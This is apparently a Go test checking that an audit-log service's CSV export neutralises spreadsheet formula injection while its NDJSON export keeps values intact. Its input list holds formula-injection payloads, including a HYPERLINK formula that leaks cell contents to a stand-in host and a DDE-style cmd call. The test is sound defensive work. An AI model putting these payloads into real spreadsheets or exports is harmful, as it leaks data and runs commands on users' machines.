package console

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"

	"github.com/sigtrail/sigtrail/internal/store"
	"github.com/sigtrail/sigtrail/internal/tenancy"
)

// A producer writes what its own users typed (a user name as the
// principal, a requested path) into entries, and a spreadsheet takes a
// cell that starts with = + - @, a tab or a carriage return for a
// formula. The CSV export keeps every such value as text: a leading
// apostrophe, as spreadsheets read it, while the NDJSON export keeps the
// signed items exactly.
func TestLogExportCSVCellsAreNeverFormulas(t *testing.T) {
	t.Parallel()
	e := newEnv(t, Config{})
	e.user("ada@example.com", store.RoleOrgAdmin)
	_, secret, err := tenancy.New(e.st, e.clk).CreateToken(context.Background(), tenancy.TokenSpec{OrgID: e.org.ID, Name: "gw", Role: store.RoleProducer})
	if err != nil {
		t.Fatal(err)
	}
	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"details")`, `+1+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`, "\t=1+1"}
	var lines []string
	for i, v := range hostile {
		line, _ := json.Marshal(map[string]any{"event_class_id": "AUTHENTICATION_TYPE_BASIC", "name": "AUTHENTICATION_OUTCOME_SUCCESS",
			"request": v, "success": true, "src": "203.0.113.7", "principal_id": v, "trace_id": "t" + string(rune('a'+i)), "user_agent": "gw/1"})
		lines = append(lines, string(line))
	}
	req, _ := http.NewRequest(http.MethodPost, e.srv.URL+"/v1/entries", strings.NewReader(strings.Join(lines, "\n")+"\n"))
	req.Header.Set("Content-Type", "application/x-ndjson")
	req.Header.Set("Authorization", "Bearer "+secret)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusAccepted {
		t.Fatalf("ingest answered %d", res.StatusCode)
	}

	b := e.browser()
	b.login("ada@example.com", testPassword)
	p := b.get("/log/export?type=authentication&format=csv")
	if p.status != http.StatusOK {
		t.Fatalf("CSV export answered %d: %s", p.status, p.body)
	}
	rows, err := csv.NewReader(strings.NewReader(p.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]int{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %q would be a formula in a spreadsheet", cell)
			}
			seen[cell]++
		}
	}
	for _, v := range hostile {
		if seen["'"+v] != 2 { // the request ("what") and the principal
			t.Errorf("%q is not kept as the text '%s in both its cells", v, v)
		}
	}
	// The NDJSON export is the signed items, unchanged.
	nd := b.get("/log/export?type=authentication&format=ndjson")
	for _, v := range hostile {
		q, _ := json.Marshal(v)
		if !strings.Contains(nd.body, `"principal_id":`+string(q)) {
			t.Errorf("NDJSON export lacks the principal %s as sent", q)
		}
	}
}
